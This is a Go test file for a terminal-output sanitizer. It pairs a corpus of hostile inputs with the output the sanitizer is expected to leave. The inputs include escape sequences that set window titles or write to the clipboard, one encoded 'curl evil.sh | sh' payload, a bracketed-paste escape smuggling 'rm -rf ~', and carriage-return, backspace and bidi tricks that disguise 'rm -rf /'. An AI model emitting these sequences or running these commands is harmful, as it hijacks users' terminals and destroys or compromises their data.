package render

import (
	"strings"
	"testing"
	"unicode/utf8"
)

// hostileCase is one attack on the terminal, with what Sanitize must leave
// of it: what the operator sees instead of what the terminal would obey.
type hostileCase struct {
	name string
	in   string
	want string
}

// hostileCorpus returns the shared table of hostile strings. Markdown tests
// run the same inputs, so every attack is tried both as plain text and as
// model prose.
func hostileCorpus() []hostileCase {
	return []hostileCase{
		// Window titles and other OSC.
		{"osc0 title bel", "a\x1b]0;pwned\x07b", "ab"},
		{"osc2 title st", "a\x1b]2;pwned\x1b\\b", "ab"},
		{"osc52 clipboard bel", "x\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07y", "xy"},
		{"osc52 clipboard st", "x\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\y", "xy"},
		{"osc52 query", "\x1b]52;c;?\x07done", "done"},
		{"osc8 hyperlink", "\x1b]8;;http://evil.example/\x1b\\click me\x1b]8;;\x1b\\", "click me"},
		{"osc 11 background query", "\x1b]11;?\x1b\\ok", "ok"},
		{"osc ended by 8-bit st", "\x1b]0;t\u009cok", "ok"},
		{"nested esc inside osc", "\x1b]0;a\x1b[31mb\x07c", "bc"},
		{"osc body with c1", "\x1b]0;a\u0085b\x07", "b"},
		// Queries and screen control.
		{"decrqss dcs", "\x1bP$qm\x1b\\after", "after"},
		{"dcs with bel inside", "\x1bPq#0;2;0;0;0\x07still\x1b\\ok", "ok"},
		{"dsr cursor report", "before\x1b[6nafter", "beforeafter"},
		{"device attributes", "\x1b[c\x1b[>0c", ""},
		{"clear screen and home", "\x1b[2J\x1b[Hhi", "hi"},
		{"sgr colours", "\x1b[31;1mred\x1b[0m", "red"},
		{"alt screen", "\x1b[?1049hx\x1b[?1049l", "x"},
		{"mouse tracking", "\x1b[?1000h\x1b[?1006h", ""},
		{"bracketed paste end", "\x1b[201~rm -rf ~\n", "rm -rf ~\n"},
		{"huge csi parameter", "\x1b[" + strings.Repeat("9", 10000) + "mz", "z"},
		// 8-bit forms.
		{"c1 csi", "\u009b31mred\u009b0m", "red"},
		{"c1 osc bel", "\u009d52;c;AAAA\x07ok", "ok"},
		{"c1 osc st", "\u009d0;title\u009cok", "ok"},
		{"c1 dcs", "\u0090$qm\u009cok", "ok"},
		{"c1 sos pm apc", "\u0098a\u009c\u009eb\u009c\u009fc\u009cok", "ok"},
		{"c1 nel and st alone", "a\u0085b\u009cc", "abc"},
		{"raw 8-bit csi byte", "\x9b31m", "\uFFFD31m"},
		// APC, PM, SOS.
		{"apc kitty graphics", "\x1b_Gf=100;AAAA\x1b\\ok", "ok"},
		{"pm", "\x1b^secret\x1b\\ok", "ok"},
		{"sos", "\x1bXsecret\x1b\\ok", "ok"},
		// Unterminated and split.
		{"unterminated osc keeps the rest", "text\x1b]0;title never ends\nmore", "text]0;title never ends\nmore"},
		{"unterminated c1 osc keeps the rest", "text\u009d52;c;never ends", "text52;c;never ends"},
		{"unterminated dcs keeps the rest", "text\x1bP1$r", "textP1$r"},
		{"osc cut by another osc", "a\x1b]0;b \x1b]52;c;QQ==\x07c", "ac"},
		{"unterminated csi", "text\x1b[12;", "text"},
		{"esc at end", "text\x1b", "text"},
		{"c1 csi at end", "text\u009b", "text"},
		{"newline inside csi", "\x1b[3\n1mx", "x"},
		{"esc esc", "\x1b\x1b[31mx", "x"},
		{"can aborts csi", "\x1b[31\x18mx", "mx"},
		{"sub aborts osc", "\x1b]0;t\x1avisible", "visible"},
		// Other escapes.
		{"charset nf escape", "\x1b(0lqqk\x1b(B", "lqqk"},
		{"reset ris", "\x1bcafter", "after"},
		{"save restore cursor", "\x1b7save\x1b8", "save"},
		{"stray st", "a\x1b\\b", "ab"},
		{"esc before non-ascii", "\x1bé", "é"},
		// C0, DEL, encoding.
		{"nul bytes", "a\x00b\x00", "ab"},
		{"bell", "\x07ding", "ding"},
		{"vt ff", "a\x0bb\x0cc", "abc"},
		{"del", "a\x7fb", "ab"},
		{"invalid utf-8", "a\xffb\xc3", "a\uFFFDb\uFFFD"},
		{"overlong encoding", "\xc0\xafetc", "\uFFFD\uFFFDetc"},
		{"cr overwrite", "echo safe\rrm -rf /", "echo safe\nrm -rf /"},
		{"crlf", "a\r\nb\r\n", "a\nb\n"},
		{"backspace", "rm -rf /\b\b\b\b\b\b\bls", "rm -rf /ls"},
		// Bidirectional text.
		{"rlo filename", "invoice\u202Efdp.exe", "invoice⟪U+202E⟫fdp.exe"},
		{"trojan source", "if a != \"user\u202E \u2066// admin\u2069 \u2066\" {",
			"if a != \"user⟪U+202E⟫ ⟪U+2066⟫// admin⟪U+2069⟫ ⟪U+2066⟫\" {"},
		{"embeddings", "\u202Ax\u202By\u202Cz\u202D", "⟪U+202A⟫x⟪U+202B⟫y⟪U+202C⟫z⟪U+202D⟫"},
		{"marks", "\u200Ea\u200Fb\u061Cc", "⟪U+200E⟫a⟪U+200F⟫b⟪U+061C⟫c"},
		{"first strong isolate", "\u2068x", "⟪U+2068⟫x"},
		// Character references stay text here; the Markdown tests check
		// that glamour does not turn them into controls.
		{"osc52 as references", "&#27;]52;c;Y3VybA==&#7;", "&#27;]52;c;Y3VybA==&#7;"},
		{"clear as hex reference", "&#x1b;[2J", "&#x1b;[2J"},
		{"references in code span", "`&#27;]0;t&#7;` and `&#x9b;2J`", "`&#27;]0;t&#7;` and `&#x9b;2J`"},
		{"references in fence", "```\n&#x1b;[2J &#155;31m\n```\n", "```\n&#x1b;[2J &#155;31m\n```\n"},
		{"reference without semicolon", "&#27[2J", "&#27[2J"},
		{"reference with leading zeros", "&#0000027;[2J", "&#0000027;[2J"},
		{"reference overflow wrap", "&#4294967323;[2J", "&#4294967323;[2J"},
		{"octal-looking reference", "&#033;[2J", "&#033;[2J"},
		{"c1 osc reference", "&#x9d;0;title&#x9c; shown", "&#x9d;0;title&#x9c; shown"},
		{"bidi references", "&#x202e;abc &rlm; &#8238;", "&#x202e;abc &rlm; &#8238;"},
		{"reference in heading", "# &#27;[2J title", "# &#27;[2J title"},
		{"reference in link", "[&#27;[2J](http://x/&#27;[2J \"&#27;[2J\")", "[&#27;[2J](http://x/&#27;[2J \"&#27;[2J\")"},
		{"reference in html block", "<div>\n&#27;[2J\n</div>\n", "<div>\n&#27;[2J\n</div>\n"},
		{"reference in table", "| a |\n|---|\n| &#27;[2J |\n", "| a |\n|---|\n| &#27;[2J |\n"},
		{"amp-encoded reference", "&amp;#27;[2J", "&amp;#27;[2J"},
	}
}

// checkTerminalSafe fails unless s could be printed raw to a terminal
// without it obeying anything: valid UTF-8, no C0 but newline and tab, no
// DEL, no C1, no bidi control.
func checkTerminalSafe(t *testing.T, s string) {
	t.Helper()
	if !utf8.ValidString(s) {
		t.Fatalf("invalid UTF-8 in %q", s)
	}
	for i, r := range s {
		switch {
		case r == '\n' || r == '\t':
		case r < 0x20, r == 0x7f, r >= 0x80 && r <= 0x9f:
			t.Fatalf("control U+%04X at byte %d in %q", r, i, s)
		case isBidiForTest(r):
			t.Fatalf("bidi control U+%04X at byte %d in %q", r, i, s)
		}
	}
}

// isBidiForTest is written out separately from isBidi so a mistake in one
// is not copied into the other.
func isBidiForTest(r rune) bool {
	switch r {
	case 0x202A, 0x202B, 0x202C, 0x202D, 0x202E,
		0x2066, 0x2067, 0x2068, 0x2069,
		0x200E, 0x200F, 0x061C:
		return true
	}
	return false
}
